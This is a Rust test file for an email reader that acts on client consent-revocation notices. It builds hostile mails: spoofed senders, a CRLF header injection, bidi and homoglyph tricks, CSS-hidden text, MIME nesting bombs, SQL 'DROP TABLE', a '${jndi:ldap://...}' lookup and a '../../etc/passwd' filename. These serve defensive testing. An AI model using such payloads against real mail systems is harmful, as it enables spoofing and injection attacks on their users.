//! What the reader makes of mails that mean harm. Each is a plain notice, which would be acted on, with one thing done to
//! it; so a row fails where the defence against that one thing is gone.

use std::fmt::Write as _;

use roi_desk::{
    domain::NoticeKind,
    notice::{Notice, ReaderRules, answer, read},
};

/// What must become of a mail.
enum Becomes {
    /// A person reads it, for a reason with these words.
    Doubted(&'static str),
    /// It changes nothing: acted on, for these records and no others.
    Harmless(&'static [&'static str]),
    /// Nothing is acted on, whatever it is taken for.
    Left,
    /// It is not read, for this reason.
    Unread(&'static str),
}
use Becomes::{Doubted, Harmless, Left, Unread};

const HEAD: &str =
    "From: Jane Doe <jane@alder.example>\nDate: Fri, 20 Nov 2026 10:00:00 -0600\nMIME-Version: 1.0\n";
const SUBJECT: &str = "Subject: revoked consent\n";
const NOTICE: &str = "Client 1555555 revoked consent today. Please close the record.";
const RECORD: &[&str] = &["1555555"];

/// A mail with these fields instead of From and Date, and of Subject.
fn mail(head: &str, subject: &str, rest: &str) -> Vec<u8> {
    format!("{head}{subject}{rest}").replace('\n', "\r\n").into_bytes()
}

fn text(text: &str) -> Vec<u8> {
    mail(HEAD, SUBJECT, &format!("Content-Type: text/plain; charset=utf-8\n\n{text}\n"))
}

/// The notice with `odd` in place of its number.
fn number(odd: &str) -> Vec<u8> {
    text(&NOTICE.replace("1555555", odd))
}

/// The notice and another sentence.
fn and(sentence: &str) -> Vec<u8> {
    text(&format!("{NOTICE}\n{sentence}"))
}

fn from(field: &str) -> Vec<u8> {
    let head = HEAD.replace("From: Jane Doe <jane@alder.example>", field);
    mail(&head, SUBJECT, &format!("\n{NOTICE}\n"))
}

fn subject(field: &str) -> Vec<u8> {
    mail(HEAD, field, &format!("\n{NOTICE}\n"))
}

fn html(page: &str) -> Vec<u8> {
    mail(
        HEAD,
        SUBJECT,
        &format!("Content-Type: text/html; charset=utf-8\n\n<html><body>{page}</body></html>\n"),
    )
}

/// The notice in HTML with more behind it.
fn html_and(more: &str) -> Vec<u8> {
    html(&format!("<p>{NOTICE}</p>{more}"))
}

/// The notice in a page with this unseen in it, of which a person is never told.
fn hidden(how: &str) -> Vec<u8> {
    html(&format!("<p>Hello,</p>{}<p>Thank you</p>", how.replace("TEXT", NOTICE)))
}

fn parts(kind: &str, parts: &[(&str, &str)]) -> Vec<u8> {
    let mut rest = format!("Content-Type: multipart/{kind}; boundary=b\n\n");
    for (head, body) in parts {
        let _ = write!(rest, "--b\n{head}\n\n{body}\n");
    }
    mail(HEAD, SUBJECT, &format!("{rest}--b--\n"))
}

const PLAIN: &str = "Content-Type: text/plain; charset=utf-8";
const HTML: &str = "Content-Type: text/html; charset=utf-8";

/// The notice as text, this as HTML.
fn beside(page: &str) -> Vec<u8> {
    parts("alternative", &[(PLAIN, NOTICE), (HTML, page)])
}

fn sender_and_subject() -> Vec<(&'static str, Vec<u8>, Becomes)> {
    let long = format!("Subject: revoked {}\n", "x ".repeat(500_000));
    let longer = format!("Subject: revoked {}\n", "x".repeat(3_000));
    vec![
        (
            "two From fields",
            from("From: jane@alder.example\nFrom: eve@evil.example"),
            Doubted("more than one sender"),
        ),
        (
            "the real sender hidden behind a first",
            from("From: jane@alder.example, eve@evil.example"),
            Doubted("more than one sender"),
        ),
        (
            "a second mailbox that is none",
            from("From: jane@alder.example, \"x\" <eve>"),
            Doubted("more than one sender"),
        ),
        (
            "a group of senders",
            from("From: us: jane@alder.example, eve@evil.example;"),
            Doubted("more than one sender"),
        ),
        (
            "another address as the name",
            from("From: \"jane@alder.example\" <eve@evil.example>"),
            Doubted("shows another address"),
        ),
        (
            "another address in an encoded name",
            from("From: =?utf-8?q?Jane_=3Cjane=40alder.example=3E?= <eve@evil.example>"),
            Doubted("shows another address"),
        ),
        (
            "another address with a fullwidth sign",
            from("From: =?utf-8?q?jane=EF=BC=A0alder.example?= <eve@evil.example>"),
            Doubted("shows another address"),
        ),
        (
            "the own address as the name",
            from("From: \"jane@alder.example\" <Jane@alder.example>"),
            Harmless(RECORD),
        ),
        (
            "no From",
            mail("Date: Fri, 20 Nov 2026 10:00:00 -0600\n", SUBJECT, &format!("\n{NOTICE}\n")),
            Unread("no_from"),
        ),
        (
            "two subjects",
            subject("Subject: revoked consent\nSubject: lunch\n"),
            Doubted("more than one subject"),
        ),
        ("a subject of a megabyte", subject(&long), Doubted("subject is longer")),
        ("a long subject", subject(&longer), Doubted("subject is longer")),
        (
            "a subject folded over and over",
            subject(&format!("Subject: revoked{}\n", "\n consent".repeat(10))),
            Harmless(RECORD),
        ),
        (
            "a line end in an encoded subject",
            subject("Subject: =?utf-8?q?revoked=0D=0ABcc:_eve=40evil.example?=\n"),
            Doubted("line ends are hidden"),
        ),
        (
            "a NUL in an encoded subject",
            subject("Subject: =?utf-8?q?revo=00ked?=\n"),
            Doubted("control characters"),
        ),
        (
            "an encoded subject that turns",
            subject("Subject: =?utf-8?q?client_=E2=80=AE5555551?=\n"),
            Doubted("turn the order"),
        ),
        ("another number in the subject", subject("Subject: revoked: 1666666\n"), Left),
        (
            "a case number that is none",
            subject("Subject: revoked [RD-99999999999999999999]\n"),
            Harmless(RECORD),
        ),
        (
            "an SQL string as the subject",
            subject("Subject: revoked'; DROP TABLE cases; --\n"),
            Harmless(RECORD),
        ),
    ]
}

fn characters() -> Vec<(&'static str, Vec<u8>, Becomes)> {
    vec![
        ("an override turns the number", number("\u{202E}5555551\u{202C}"), Doubted("turn the order")),
        ("an isolate turns the number", number("\u{2067}555-555-1\u{2069}"), Doubted("turn the order")),
        ("marks reorder pieces of the number", number("15\u{200F}55\u{200F}555"), Doubted("turn the order")),
        ("an override turns words", and("\u{202E}esolc ton od\u{202C}"), Doubted("turn the order")),
        (
            "letters from right to left beside numbers",
            and("\u{5DC}\u{5E7}\u{5D5}\u{5D7} 1555555 / 12"),
            Doubted("right to left"),
        ),
        ("a negation with a Cyrillic letter", and("Do n\u{43E}t close it."), Doubted("another script")),
        (
            "a whole word of Cyrillic letters",
            and("Please \u{4BB}\u{43E}\u{4CF}\u{501} off."),
            Doubted("another script"),
        ),
        (
            "a negation in mathematical letters",
            and("Do \u{1D427}\u{1D428}\u{1D42D} close it."),
            Doubted("another script"),
        ),
        ("a negation with a zero", and("Do n0t close it."), Doubted("digits that look like letters")),
        ("a letter for a digit", number("l555555"), Left),
        (
            "a letter for a digit in a second number",
            text("Clients 1555555 and 16666S6 revoked consent today. Please close the records."),
            Doubted("letters that look like digits"),
        ),
        (
            "a Cyrillic letter for a digit",
            text("Clients 1555555 and 166\u{417}666 revoked consent today. Please close the records."),
            Doubted("another script"),
        ),
        (
            "digits of another script",
            number("\u{661}\u{665}\u{665}\u{665}\u{665}\u{665}\u{665}"),
            Doubted("digits of another script"),
        ),
        ("a superscript at the number", number("1555555\u{B2}"), Doubted("digits of another script")),
        ("a joiner in the number", number("1555\u{200D}555"), Doubted("not seen stands inside a number")),
        (
            "a filler between two numbers",
            number("1555555\u{3164}1"),
            Doubted("not seen stands inside a number"),
        ),
        (
            "tag characters in the number",
            number("155\u{E0031}5555"),
            Doubted("not seen stands inside a number"),
        ),
        ("a place to break the number", number("1555\u{200B}555"), Harmless(RECORD)),
        (
            "a number struck out by marks",
            number("1\u{336}5\u{336}5\u{336}5\u{336}5\u{336}5\u{336}5\u{336}"),
            Doubted("marks are laid over"),
        ),
        (
            "the request struck out by marks",
            and("P\u{336}l\u{336}e\u{336}a\u{336}s\u{336}e\u{336} close it."),
            Doubted("marks are laid over"),
        ),
        ("a NUL in the number", number("1555\u{0}555"), Doubted("control characters")),
        ("backspaces over a word", and("not\u{8}\u{8}\u{8}now"), Doubted("control characters")),
        ("an escape that hides text", and("\u{1B}[8mhidden\u{1B}[0m"), Doubted("control characters")),
        (
            "such characters in older mail only",
            and("\n> Client \u{202E}5555551\u{202C} n0t"),
            Harmless(RECORD),
        ),
    ]
}

fn amounts() -> Vec<(&'static str, Vec<u8>, Becomes)> {
    let numbers = |count: usize| {
        let all: Vec<String> = (0..count).map(|nth| (1_500_000 + nth).to_string()).collect();
        text(&format!("Clients {} revoked consent today. Please close the records.", all.join(", ")))
    };
    let far = format!("{}\nPlease do not close it.", "We had rain again.\n".repeat(5_000));
    let sentences = format!("{}\nPlease do not close it.", "It rained. ".repeat(450));
    let comment = format!("<!--{}--><p>Please do not close it.</p>", "x".repeat(600 * 1024));
    let levels = |inner: &str| inner.repeat(20_000);
    vec![
        ("records by the dozen", numbers(60), Doubted("more than 50 records")),
        ("records by the thousand", numbers(5_000), Doubted("more than 50 records")),
        ("the refusal behind what is read", and(&far), Doubted("longer than what was read")),
        ("the refusal behind many sentences", and(&sentences), Doubted("longer than what was read")),
        ("the refusal behind a huge comment", html_and(&comment), Doubted("longer than what was read")),
        ("ten thousand parts", parts("mixed", &vec![(PLAIN, NOTICE); 10_000]), Unread("too_many_parts")),
        (
            "parts nested without end",
            mail(HEAD, SUBJECT, &levels("Content-Type: multipart/mixed; boundary=b\n\n--b\n")),
            Unread("too_many_parts"),
        ),
        (
            "parts nested deep",
            mail(
                HEAD,
                SUBJECT,
                &(0..60).fold(String::new(), |mut all, nth| {
                    let _ = write!(all, "Content-Type: multipart/mixed; boundary=b{nth}\n\n--b{nth}\n");
                    all
                }),
            ),
            Unread("too_deep"),
        ),
        (
            "mails nested without end",
            mail(HEAD, SUBJECT, &"Content-Type: message/rfc822\n\nFrom: a@b.example\n".repeat(200_000)),
            Unread("too_many_parts"),
        ),
        ("elements nested without end", html_and(&"<div>".repeat(50_000)), Unread("too_deep")),
        (
            "fields by the hundred thousand",
            mail(HEAD, &"X-A: b\n".repeat(200_000), &format!("\n{NOTICE}\n")),
            Unread("too_many_parts"),
        ),
        (
            "a million senders",
            from(&format!("From: {}jane@alder.example", "a@b.example, ".repeat(1_000_000))),
            Unread("too_many_parts"),
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "one table")]
fn structure() -> Vec<(&'static str, Vec<u8>, Becomes)> {
    const RFC822: &str = "Content-Type: message/rfc822";
    let inner =
        format!("From: eve@evil.example\nSubject: revoked\n\n{}", NOTICE.replace("1555555", "1666666"));
    let unread = "Please do not close it.";
    vec![
        (
            "text and HTML name different records",
            beside(&NOTICE.replace("1555555", "1666666")),
            Doubted("different records"),
        ),
        (
            "the HTML names a second record",
            beside(&format!("<p>{NOTICE}</p><p>And 1666666.</p>")),
            Doubted("different records"),
        ),
        (
            "the HTML asks",
            beside("<p>Client 1555555 revoked consent today? Please close the record?</p>"),
            Doubted("read alone"),
        ),
        (
            "the HTML says not",
            beside("<p>Client 1555555 has not revoked consent today. Please do not close the record.</p>"),
            Doubted("only in the HTML"),
        ),
        (
            "the HTML waits",
            beside(&format!("<p>{NOTICE}</p><p>Wait until she has signed.</p>")),
            Doubted("only in the HTML"),
        ),
        (
            "the HTML strikes the request out",
            beside(&format!("<s>{NOTICE}</s><p>Client 1555555 consent record today.</p>")),
            Doubted("struck out"),
        ),
        (
            "the HTML has the request quoted",
            beside(&format!("<blockquote type=cite>{NOTICE}</blockquote>")),
            Doubted(""),
        ),
        ("the HTML has a Cyrillic letter", beside(&NOTICE.replace("revoked", "rev\u{43E}ked")), Doubted("")),
        (
            "two plain texts of which one is shown",
            parts(
                "alternative",
                &[(PLAIN, NOTICE), (PLAIN, "Client 1666666 revoked consent today. Please close the record.")],
            ),
            Doubted("several plain texts"),
        ),
        (
            "plain texts that contradict each other",
            parts("mixed", &[(PLAIN, NOTICE), (PLAIN, unread)]),
            Doubted("A person should read it"),
        ),
        (
            "a mail in it holds the notice",
            parts("mixed", &[(PLAIN, "See the mail."), (RFC822, &inner)]),
            Left,
        ),
        (
            "a mail in it names another record",
            parts("mixed", &[(PLAIN, NOTICE), (RFC822, &inner)]),
            Harmless(RECORD),
        ),
        ("the whole mail is a mail", mail(HEAD, SUBJECT, &format!("{RFC822}\n\n{inner}\n")), Left),
        (
            "a text of another kind",
            parts("mixed", &[(PLAIN, NOTICE), ("Content-Type: text/enriched", unread)]),
            Doubted("was not read"),
        ),
        (
            "a text that may be shown",
            parts(
                "mixed",
                &[(PLAIN, NOTICE), ("Content-Type: text/plain\nContent-Disposition: attachment", unread)],
            ),
            Doubted("was not read"),
        ),
        ("the notice below the dashes of a signature", text(&format!("Hello.\n-- \n{NOTICE}")), Left),
        (
            "all of it encrypted",
            mail(HEAD, SUBJECT, "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n\nx\n"),
            Unread("encrypted"),
        ),
        (
            "all of it in winmail.dat",
            mail(HEAD, SUBJECT, "Content-Type: application/ms-tnef; name=winmail.dat\n\nx\n"),
            Unread("outlook_only"),
        ),
        (
            "a path as the name of a file",
            parts(
                "mixed",
                &[(PLAIN, NOTICE), ("Content-Type: application/pdf; name=\"../../etc/passwd\"", "x")],
            ),
            Harmless(RECORD),
        ),
        (
            "template words in the text",
            and("{{ case.id }} {% raw %} ${jndi:ldap://x.example}"),
            Harmless(RECORD),
        ),
        ("SQL in the text", and("Robert'); DROP TABLE cases; --"), Harmless(RECORD)),
    ]
}

fn unseen() -> Vec<(&'static str, Vec<u8>, Becomes)> {
    let rows: &[(&str, &str)] = &[
        ("display:none", "<div style='display:none'>TEXT</div>"),
        ("a style sheet", "<style>.q{display:none!important}</style><div class=q>TEXT</div>"),
        ("an escaped property", "<div style='d\\69splay:none'>TEXT</div>"),
        ("a commented property", "<div style='display/**/:none'>TEXT</div>"),
        ("visibility", "<div style='visibility:hidden'>TEXT</div>"),
        ("size nought", "<div style='font-size:0'>TEXT</div>"),
        ("a tiny size", "<div style='font-size:.1px'>TEXT</div>"),
        ("a size in calc", "<div style='font-size:calc(0px)'>TEXT</div>"),
        ("an old size", "<font style='font-size:0.5pt'>TEXT</font>"),
        ("white on white", "<font color=white>TEXT</font>"),
        ("hsl on white", "<div style='color:hsl(0,0%,100%)'>TEXT</div>"),
        ("a named near-white", "<div style='color:honeydew'>TEXT</div>"),
        ("percentages on white", "<div style='color:rgb(100%,100%,100%)'>TEXT</div>"),
        ("hex without alpha", "<div style='color:#ffffff00'>TEXT</div>"),
        ("black with no alpha", "<div style='color:#00000000'>TEXT</div>"),
        ("rgb with an alpha", "<div style='color:rgb(0 0 0 / 0%)'>TEXT</div>"),
        ("black on black", "<div style='background:#000;color:#010101'>TEXT</div>"),
        ("opacity", "<div style='opacity:0.01'>TEXT</div>"),
        ("a filter", "<div style='filter:opacity(0)'>TEXT</div>"),
        ("off the screen", "<div style='position:absolute;left:-9999px'>TEXT</div>"),
        ("off to the right", "<div style='position:absolute;left:9999px'>TEXT</div>"),
        ("a margin off the screen", "<div style='margin:-9999px'>TEXT</div>"),
        ("moved away", "<div style='transform:translateX(-9999px)'>TEXT</div>"),
        ("scaled to nothing", "<div style='transform:scale(0,0)'>TEXT</div>"),
        ("indented away", "<div style='text-indent:-9999px'>TEXT</div>"),
        ("clipped", "<div style='position:absolute;clip:rect(0,0,0,0)'>TEXT</div>"),
        ("a clip path", "<div style='clip-path:circle(0px)'>TEXT</div>"),
        ("no height", "<div style='height:0;overflow:hidden'>TEXT</div>"),
        ("no line height", "<div style='line-height:0;height:0;overflow:hidden'>TEXT</div>"),
        ("no height, clipped by auto", "<div style='max-height:0;overflow:auto'>TEXT</div>"),
        ("hidden", "<div hidden>TEXT</div>"),
        ("mso-hide", "<div style='mso-hide:all'>TEXT</div>"),
        ("content-visibility", "<div style='content-visibility:hidden'>TEXT</div>"),
        ("closed details", "<details><summary>More</summary>TEXT</details>"),
        ("a closed dialog", "<dialog>TEXT</dialog>"),
        ("a template", "<template>TEXT</template>"),
        ("text of a picture", "<svg><text fill='none'>TEXT</text></svg>"),
        ("a select", "<select><option>TEXT</option></select>"),
        ("a list of proposals", "<datalist><option>TEXT</option></datalist>"),
        ("an object", "<object>TEXT</object>"),
        ("a canvas", "<canvas>TEXT</canvas>"),
        ("a progress bar", "<progress>TEXT</progress>"),
        ("a closed text area", "<textarea style='display:none'>TEXT</textarea>"),
        ("a comment for Outlook", "<!--[if mso]>TEXT<![endif]-->"),
        ("a title", "<title>TEXT</title>"),
        ("the head", "<noframes>TEXT</noframes>"),
        ("a text fill colour", "<div style='-webkit-text-fill-color:transparent'>TEXT</div>"),
        ("a hidden column", "<table><tr><td style='display:none'>TEXT</td><td>x</td></tr></table>"),
        ("a collapsed row", "<table><tr style='visibility:collapse'><td>TEXT</td></tr></table>"),
        ("ruby without sight", "<ruby>x<rp>TEXT</rp></ruby>"),
    ];
    rows.iter().map(|(name, how)| (*name, hidden(how), Left)).collect()
}

/// What a browser makes of the sender's own part in a way that the reader cannot tell: one thing done to the notice.
#[expect(clippy::too_many_lines, reason = "one table")]
fn uncertain() -> Vec<(&'static str, Vec<u8>, Becomes)> {
    const CLOSE: &str = "revoked consent today. Please close the record.";
    let rows: &[(&str, &str, &str)] = &[
        ("a footnote at a number", "<p>Client 1555555<sup>1</sup> CLOSE</p>", "put together"),
        ("a footnote that ends a number", "<p>Client 155555<sup>5</sup> CLOSE</p>", "put together"),
        ("a link within a number", "<p>Client 155555<a href='#f'>5</a> CLOSE</p>", "put together"),
        ("a picture in a number", "<p>Client 15555<img src=cid:a>55 CLOSE</p>", "put together"),
        ("a picture behind a number", "<p>Client 1555555<img src=cid:a alt=5> CLOSE</p>", "put together"),
        (
            "struck by a class",
            "<style>.s{text-decoration:line-through}</style><p>NOTICE <b class=s>x</b></p>",
            "struck out",
        ),
        (
            "struck and underlined",
            "<p>NOTICE <b style='text-decoration:underline line-through'>x</b></p>",
            "struck out",
        ),
        (
            "struck by the line",
            "<p>NOTICE <b style='text-decoration-line:line-through'>x</b></p>",
            "struck out",
        ),
        ("bdo", "<p>Client <bdo dir=rtl>1555555</bdo> CLOSE</p>", "turns the order"),
        ("dir=rtl", "<p>Client <span dir=rtl>1555555</span> CLOSE</p>", "turns the order"),
        (
            "direction",
            "<p>Client <span style='unicode-bidi:bidi-override;direction:rtl'>1555555</span> CLOSE</p>",
            "styled in a way",
        ),
        ("turned around", "<div style='transform:rotate(180deg)'>NOTICE</div>", "styled in a way"),
        (
            "a picture in a sentence",
            "<p>Client 1555555 <img src=cid:a alt='has not'> CLOSE</p>",
            "a picture in the text",
        ),
        (
            "a picture that takes it back",
            "<p>NOTICE</p><img src=cid:a alt='Do not close it yet'>",
            "a picture in the text",
        ),
        ("words in a field", "<p>NOTICE</p><input value='Do not close it'>", "words that were not read"),
        (
            "words in a frame",
            "<iframe srcdoc='<p>Do not close'></iframe><p>NOTICE</p>",
            "words that were not read",
        ),
        (
            "words before an element",
            "<style>.x::before{content:'not '}</style><p>Client 1555555 has <b class=x></b>CLOSE</p>",
            "styled in a way",
        ),
        ("a layer", "<style>@layer a{.x{display:none}}</style><p class=x>NOTICE</p>", "styled in a way"),
        (
            "a rule within a rule",
            "<style>p{&.x{display:none}}</style><p class=x>NOTICE</p>",
            "styled in a way",
        ),
        (
            "a wide window",
            "<style>@media (min-width:1px){.x{display:none}}</style><p class=x>NOTICE</p>",
            "styled in a way",
        ),
        ("another sheet", "<style>@import 'a.css';</style><p>NOTICE</p>", "styled in a way"),
        (
            "a linked sheet",
            "<link rel=stylesheet href='http://x.example/a.css'><p>NOTICE</p>",
            "styled in a way",
        ),
        ("a colour of tomorrow", "<p style='color:oklch(1 0 0)'>NOTICE</p>", "styled in a way"),
        ("a property of tomorrow", "<p style='vanish:yes'>NOTICE</p>", "styled in a way"),
        (
            "something laid over it",
            "<p>NOTICE</p><div style='position:absolute;top:0;background:white'>Lunch?</div>",
            "styled in a way",
        ),
        ("for some programs only", "<noscript><p>NOTICE</p></noscript>", "some mail programs only"),
    ];
    let mut found: Vec<_> = rows
        .iter()
        .map(|(name, page, why)| {
            (*name, html(&page.replace("NOTICE", NOTICE).replace("CLOSE", CLOSE)), Doubted(why))
        })
        .collect();
    found.extend([
        (
            "a number in pieces of one look",
            html(&NOTICE.replace("1555555", "155<b>55</b>55")),
            Harmless(RECORD),
        ),
        ("a logo", html_and("<p>Jane Doe<br><img src=cid:l alt='Alder House'></p>"), Harmless(RECORD)),
        ("black on black", html(&format!("<p style='background:black'>{NOTICE}</p>")), Left),
        (
            "attributes without end",
            html(&format!(
                "<p {}>{NOTICE}</p>",
                (0..90_000).fold(String::new(), |all, nth| all + &format!(" a{nth}=b"))
            )),
            Unread("too_many_parts"),
        ),
    ]);
    found
}

/// Parts and fields of which mail programs show different ones.
fn disagreeing() -> Vec<(&'static str, Vec<u8>, Becomes)> {
    let page = format!("<p>{NOTICE}</p>");
    let wait = "Not yet, thank you.";
    let notice = (PLAIN, NOTICE);
    let field = |field: &str| mail(HEAD, SUBJECT, &format!("{field}\n\n{NOTICE}\n"));
    vec![
        (
            "a short sentence in the HTML",
            beside(&format!("{page}<p>{wait}</p>")),
            Doubted("only in the text or only in the HTML"),
        ),
        (
            "a short sentence in the text",
            parts("alternative", &[(PLAIN, &format!("{NOTICE}\n{wait}")), (HTML, &page)]),
            Doubted("not understood, which may take it back"),
        ),
        (
            "what a telephone adds",
            beside(&format!("{page}<p>Get <a href='https://x.example'>Outlook for iOS</a></p>")),
            Harmless(RECORD),
        ),
        (
            "a third format",
            parts("alternative", &[notice, (HTML, &page), ("Content-Type: text/markdown", wait)]),
            Doubted("a format that was not read"),
        ),
        ("related texts", parts("related", &[notice, (HTML, wait)]), Doubted("put together")),
        ("parallel texts", parts("parallel", &[notice, (HTML, wait)]), Doubted("put together")),
        ("a second text", parts("mixed", &[notice, (PLAIN, wait)]), Doubted("another text")),
        (
            "a second text that a telephone adds",
            parts("mixed", &[notice, (PLAIN, "\nSent from my iPhone")]),
            Harmless(RECORD),
        ),
        (
            "a named text",
            parts(
                "mixed",
                &[
                    notice,
                    (
                        "Content-Type: text/plain; name=a.txt\nContent-Disposition: inline; filename=a.txt",
                        wait,
                    ),
                ],
            ),
            Doubted("another text"),
        ),
        (
            "words before the parts",
            mail(
                HEAD,
                SUBJECT,
                &format!("Content-Type: multipart/mixed; boundary=b\n\n{wait}\n--b\n\n{NOTICE}\n--b--\n"),
            ),
            Doubted("before or behind its parts"),
        ),
        (
            "words behind the parts",
            mail(
                HEAD,
                SUBJECT,
                &format!("Content-Type: multipart/mixed; boundary=b\n\n--b\n\n{NOTICE}\n--b--\n{wait}\n"),
            ),
            Doubted("before or behind its parts"),
        ),
        (
            "what programs write before the parts",
            mail(
                HEAD,
                SUBJECT,
                &format!(
                    "Content-Type: multipart/mixed; boundary=b\n\nThis is a multi-part message in MIME format.\n--b\n\n{NOTICE}\n--b--\n"
                ),
            ),
            Harmless(RECORD),
        ),
        ("two dates", field("Date: Thu, 19 Nov 2026 10:00:00 -0600"), Doubted("more than one date")),
        ("two types", field("Content-Type: text/plain\nContent-Type: text/html"), Doubted("two things")),
        (
            "two encodings",
            field("Content-Transfer-Encoding: 7bit\nContent-Transfer-Encoding: 8bit"),
            Doubted("two things"),
        ),
        ("no parts", field("Content-Type: multipart/mixed; boundary=b"), Doubted("cannot be told apart")),
    ]
}

#[track_caller]
fn holds(name: &str, mail: &[u8], becomes: &Becomes) -> Result<(), String> {
    let found: Notice = read(mail, &ReaderRules::default());
    let ids: Vec<&str> = found.records.iter().map(roi_desk::domain::ClientId::as_str).collect();
    let problem = found.problem.map(roi_desk::notice::Problem::name);
    let as_it_must = match becomes {
        Doubted(why) => {
            !found.act
                && found.kind.is_notice()
                && found.doubtful
                && found.reasons.iter().any(|reason| reason.to_lowercase().contains(&why.to_lowercase()))
        }
        Harmless(records) => {
            found.act
                && found.kind == NoticeKind::Revocation
                && ids == *records
                && found.new_records.is_empty()
        }
        Left => !found.act && problem.is_none(),
        Unread(why) => !found.act && problem == Some(*why) && found.records.is_empty(),
    };
    if as_it_must {
        Ok(())
    } else {
        Err(format!("{name}: act {} {:?} {ids:?} {problem:?} {:?}", found.act, found.kind, found.reasons))
    }
}

#[track_caller]
fn all(rows: &[(&str, Vec<u8>, Becomes)], at_least: usize) {
    assert!(rows.len() >= at_least);
    let wrong: Vec<String> =
        rows.iter().filter_map(|(name, mail, becomes)| holds(name, mail, becomes).err()).collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), rows.len(), wrong.join("\n"));
}

#[test]
fn the_plain_notice_that_all_of_them_start_from_is_acted_on() {
    for (name, mail) in [
        ("text", text(NOTICE)),
        ("HTML", html(&format!("<p>Hello,</p><p>{NOTICE}</p>"))),
        ("both", beside(&format!("<p>{NOTICE}</p>"))),
    ] {
        assert_eq!(holds(name, &mail, &Harmless(RECORD)), Ok(()));
    }
}

#[test]
fn who_it_is_from_and_what_it_is_called_deceive_nobody() {
    all(&sender_and_subject(), 19);
}

#[test]
fn characters_that_deceive_the_eye_call_a_person() {
    all(&characters(), 24);
}

#[test]
fn amounts_neither_hide_a_word_nor_stop_the_reader() {
    all(&amounts(), 12);
}

#[test]
fn several_texts_that_do_not_agree_call_a_person() {
    all(&structure(), 20);
}

#[test]
fn what_a_browser_may_show_otherwise_calls_a_person() {
    all(&uncertain(), 30);
}

#[test]
fn parts_that_disagree_call_a_person() {
    all(&disagreeing(), 16);
}

#[test]
fn what_nobody_sees_says_nothing() {
    all(&unseen(), 50);
}

#[test]
fn the_first_fifty_of_too_many_records_are_kept_in_their_order() {
    let all: Vec<String> = (0..60).map(|nth| (1_700_000 - nth).to_string()).collect();
    let found = read(&text(&format!("Clients {} revoked consent.", all.join(", "))), &ReaderRules::default());
    let kept: Vec<&str> = found.records.iter().map(roi_desk::domain::ClientId::as_str).collect();
    assert_eq!(Some(kept.as_slice()), all.iter().map(String::as_str).collect::<Vec<_>>().get(..50));
}

#[test]
fn an_answer_that_deceives_the_eye_is_not_clear() {
    for answer in ["\u{202E}5555551\u{202C}", "1555\u{200D}555", "1555555\u{B2}"] {
        let found = read(&text(answer), &ReaderRules::default());
        assert!(found.doubtful, "{answer:?}");
    }
    let plain = read(&text("1555555"), &ReaderRules::default());
    assert!(!plain.doubtful && answer(&text("1555555"), &ReaderRules::default()).records.len() == 1);
}
